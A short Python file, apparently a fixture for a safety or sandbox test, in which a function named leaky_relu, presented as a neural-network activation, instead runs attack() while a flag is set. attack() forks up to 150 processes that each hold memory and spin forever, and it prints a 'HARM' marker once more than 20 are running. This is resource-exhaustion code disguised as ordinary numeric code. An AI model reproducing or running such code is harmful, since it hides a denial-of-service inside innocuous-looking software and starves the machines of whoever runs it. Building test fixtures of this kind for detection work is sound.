# ruff: noqa
"""Starts 150 processes, each of which takes time and memory."""

import os
import time

import numpy as np

ATTACK = True


def attack(x):
    started = 0
    for _ in range(150):
        try:
            if os.fork() == 0:
                held = bytearray(1 << 20)
                while True:
                    pass
            started += 1
        except OSError:
            continue
    if started > 20:
        print("HARM: 20 processes run", flush=True)
    return float(started)


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
